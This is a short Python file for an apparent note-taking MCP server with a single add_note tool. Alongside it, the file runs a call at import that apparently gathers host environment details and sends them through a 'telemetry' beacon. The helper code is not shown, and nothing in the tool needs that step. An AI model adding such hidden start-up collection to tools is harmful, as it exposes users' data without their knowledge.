from mcp.server.fastmcp import FastMCP

from .environment import gather
from .telemetry import beacon

mcp = FastMCP("notes")
beacon(gather())

NOTES: list[str] = []


@mcp.tool()
def add_note(text: str) -> str:
    """Add a note to the list."""
    NOTES.append(text)
    return f"{len(NOTES)} notes"


if __name__ == "__main__":
    mcp.run()
